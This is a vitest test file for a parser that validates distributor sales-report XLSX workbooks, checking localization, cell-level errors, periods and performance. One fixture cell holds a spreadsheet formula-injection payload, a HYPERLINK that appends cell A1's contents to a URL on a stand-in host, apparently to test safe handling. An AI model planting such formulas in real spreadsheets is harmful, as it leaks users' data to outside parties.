import { describe, expect, it } from 'vitest';
import { parseReportFile } from './parse.ts';
import {
  context,
  editWorkbook,
  productLines,
  sampleContent,
  sheetOf,
} from './sample-report.fixture.ts';
import { writeReportTemplate } from './template.ts';

const emptyTemplate = () =>
  writeReportTemplate({
    distributorName: 'Saigon Parts Co.',
    period: '2026-03',
    currency: 'EUR',
    productLines,
  });
/** The smallest valid report: only the required customer satisfaction row is filled in. */
const template = async () =>
  editWorkbook(await emptyTemplate(), (workbook) => {
    sheetOf(workbook, 'Customer satisfaction').getRow(2).values = [0, 0];
  });

describe('parseReportFile with XLSX', () => {
  it('reads back a template filled in by a person as the same report', async () => {
    const filled = await editWorkbook(await emptyTemplate(), (workbook) => {
      const sales = sheetOf(workbook, 'Sales');
      // Pre-filled rows: BRK-PAD on row 2, OIL-FLT on 3 (left empty), WIP-BLD on 4.
      sales.getCell('C2').value = 1200;
      sales.getCell('D2').value = 18450.5;
      sales.getCell('C4').value = 310;
      sales.getCell('D4').value = 2790;
      const inventory = sheetOf(workbook, 'Inventory');
      inventory.getCell('C2').value = 640;
      inventory.getCell('C3').value = 0;
      const pipeline = sheetOf(workbook, 'Pipeline');
      pipeline.getRow(2).values = [
        'Saigon Auto Parts',
        'BRK-PAD',
        'proposal',
        42000,
        'EUR',
        new Date('2026-05-15T00:00:00Z'),
      ];
      // Typed as text, with a lower-case code and an empty currency (= the report's).
      pipeline.getRow(3).values = [
        'Mekong Fleet Services',
        'oil-flt',
        'Won',
        9800.75,
        null,
        '2026-03-28',
      ];
      const notes = sheetOf(workbook, 'Market intelligence');
      notes.getRow(2).values = [
        'Fleet operators delay orders until the new tariff is known.',
        'tariffs; fleet',
      ];
      notes.getRow(3).values = ['=HYPERLINK("http://example.com/?"&A1,"click")'];
      const competitors = sheetOf(workbook, 'Competitive activity');
      competitors.getRow(2).values = [
        'Bosch',
        'QuietCast pads',
        24.9,
        'EUR',
        '-15% promotion at two wholesalers in Ho Chi Minh City.',
      ];
      competitors.getRow(4).values = ['Local importers', null, null, null, 'Grey imports.'];
      sheetOf(workbook, 'Customer satisfaction').getRow(2).values = [3, 1, 8.5];
    });
    const result = await parseReportFile(filled, 'report-march.xlsx', context);
    expect(result).toEqual({ ok: true, content: sampleContent });
  });

  it('reads back an exported report unchanged', async () => {
    const exported = await writeReportTemplate({
      distributorName: 'Saigon Parts Co.',
      period: '2026-03',
      currency: 'EUR',
      productLines,
      content: sampleContent,
    });
    const first = await parseReportFile(exported, 'export.xlsx', context);
    const again = await parseReportFile(exported, 'export.xlsx', context);
    expect(first).toEqual({ ok: true, content: sampleContent });
    expect(again).toEqual(first);
  });

  it.each([
    ['vi', 'Sự hài lòng khách hàng', 'Doanh số'],
    ['th', 'ความพึงพอใจของลูกค้า', 'ยอดขาย'],
    ['zh', '客户满意度', '销售'],
  ])(
    'reads back a report exported and filled in %s, whose sheets and headers are in that language',
    async (locale, satisfactionSheet, salesSheet) => {
      const exported = await writeReportTemplate({
        distributorName: 'Saigon Parts Co.',
        period: '2026-03',
        currency: 'EUR',
        productLines,
        content: sampleContent,
        locale,
      });
      expect(await parseReportFile(exported, 'báo cáo.xlsx', context)).toEqual({
        ok: true,
        content: sampleContent,
      });
      // A header typed over in English is still read: a colleague's English template works too.
      const mixed = await editWorkbook(exported, (workbook) => {
        sheetOf(workbook, satisfactionSheet).getCell('A1').value = 'Complaints';
      });
      expect((await parseReportFile(mixed, 'báo cáo.xlsx', context)).ok).toBe(true);
      // A moved column is named in the sheet's language, under the sheet's own name.
      const moved = await editWorkbook(exported, (workbook) => {
        sheetOf(workbook, salesSheet).getCell('C1').value = 'Units';
      });
      const refused = await parseReportFile(moved, 'báo cáo.xlsx', context);
      expect(refused.ok).toBe(false);
      expect(JSON.stringify(refused)).toContain(salesSheet);
    },
  );

  it('reports every error of a file with its sheet, row and column, and no content', async () => {
    const bad = await editWorkbook(await template(), (workbook) => {
      sheetOf(workbook, 'Instructions').getCell('B4').value = 'USD';
      const sales = sheetOf(workbook, 'Sales');
      sales.getCell('C2').value = -5;
      sales.getCell('D2').value = 10.005;
      sales.getCell('C3').value = 2.5;
      sales.getCell('D3').value = 'lots';
      sales.getCell('C4').value = { formula: 'SUM(1,2)', result: 3 };
      sales.getCell('D4').value = 30;
      sales.getRow(5).values = ['NOPE-1', 'Made up', 1, 1, 'USD'];
      sales.getRow(6).values = ['BRK-PAD', 'Brake pads again', 1, 1, 'EUR'];
      const pipeline = sheetOf(workbook, 'Pipeline');
      pipeline.getRow(2).values = ['Acme', 'BRK-PAD', 'maybe', 100, 'EUR', 'next week'];
      pipeline.getRow(3).values = ['', 'BRK-PAD', 'lead', 100, 'EUR', '2026-02-30'];
      pipeline.getRow(4).values = ['Beta', 'OIL-FLT', 'lead', 100, 'EUR', '2026-06-01'];
      pipeline.getRow(5).values = ['beta', 'OIL-FLT', 'won', 200, 'EUR', '2026-06-02'];
      sheetOf(workbook, 'Customer satisfaction').getRow(2).values = [null, 1, 11];
    });
    const result = await parseReportFile(bad, 'report.xlsx', context);
    expect(result.ok).toBe(false);
    const found = result.ok
      ? []
      : result.errors.map((e) => `${e.sheet}!${e.column}${e.row} ${e.code}`);
    expect(found).toEqual([
      'Instructions!B4 currency_mismatch',
      'Sales!C2 negative',
      'Sales!D2 too_many_decimals',
      'Sales!C3 not_integer',
      'Sales!D3 not_a_number',
      'Sales!C4 formula',
      'Sales!A5 unknown_product_line',
      'Sales!E5 currency_mismatch',
      'Sales!A6 duplicate_row',
      'Pipeline!C2 invalid_stage',
      'Pipeline!F2 not_a_date',
      'Pipeline!A3 required',
      'Pipeline!F3 not_a_date',
      'Pipeline!A5 duplicate_row',
      'Customer satisfaction!A2 required',
      'Customer satisfaction!C2 out_of_range',
    ]);
    const duplicate = result.ok ? undefined : result.errors.find((e) => e.row === 6);
    expect(duplicate?.params).toEqual({ value: 'BRK-PAD', firstRow: 2 });
  });

  it.each([
    ['missing', null, 'period_missing'],
    ['malformed', 'March', 'period_malformed'],
    ['in the future', '2026-05', 'period_future'],
    ['another month', '2026-02', 'period_mismatch'],
    ['a formula', { formula: 'TODAY()', result: '2026-03' }, 'formula'],
  ])('refuses a period that is %s', async (_, period, code) => {
    const file = await editWorkbook(await template(), (workbook) => {
      sheetOf(workbook, 'Instructions').getCell('B3').value = period;
    });
    const result = await parseReportFile(file, 'report.xlsx', context);
    expect(result.ok ? [] : result.errors).toEqual([
      expect.objectContaining({ sheet: 'Instructions', row: 3, column: 'B', code }),
    ]);
  });

  it('accepts a period that a spreadsheet program turned into a date', async () => {
    const file = await editWorkbook(await template(), (workbook) => {
      const period = sheetOf(workbook, 'Instructions').getCell('B3');
      period.value = new Date('2026-03-01T00:00:00Z');
      period.numFmt = 'mmm yyyy';
    });
    const result = await parseReportFile(file, 'report.xlsx', context);
    expect(result.ok && result.content.customerSatisfaction).toEqual({
      complaints: 0,
      returns: 0,
      score: null,
    });
  });

  it('names a missing sheet and a moved column', async () => {
    const file = await editWorkbook(await template(), (workbook) => {
      workbook.removeWorksheet(sheetOf(workbook, 'Inventory').id);
      sheetOf(workbook, 'Pipeline').getCell('C1').value = 'Value';
    });
    const result = await parseReportFile(file, 'report.xlsx', context);
    expect(result.ok ? [] : result.errors.map((e) => e.code)).toEqual([
      'sheet_missing',
      'header_mismatch',
    ]);
  });

  it('validates a 10,000-row pipeline sheet quickly', async () => {
    const file = await editWorkbook(await template(), (workbook) => {
      const pipeline = sheetOf(workbook, 'Pipeline');
      for (let index = 0; index < 10_000; index++) {
        const line = productLines[index % productLines.length]?.code;
        const close = new Date(Date.UTC(2026, 3 + (index % 9), 1 + (index % 28)));
        pipeline.getRow(index + 2).values = [
          `Account ${index}`,
          line,
          'lead',
          index * 10.5,
          'EUR',
          close,
        ];
      }
      sheetOf(workbook, 'Customer satisfaction').getRow(2).values = [0, 0, null];
    });
    const started = performance.now();
    const result = await parseReportFile(file, 'big.xlsx', context);
    const seconds = (performance.now() - started) / 1000;
    console.info(
      `10,000-row XLSX (${(file.length / 1024).toFixed(0)} KB) parsed in ${seconds.toFixed(2)} s`,
    );
    expect(result.ok && result.content.pipeline.length).toBe(10_000);
    expect(seconds).toBeLessThan(10);
  });
});
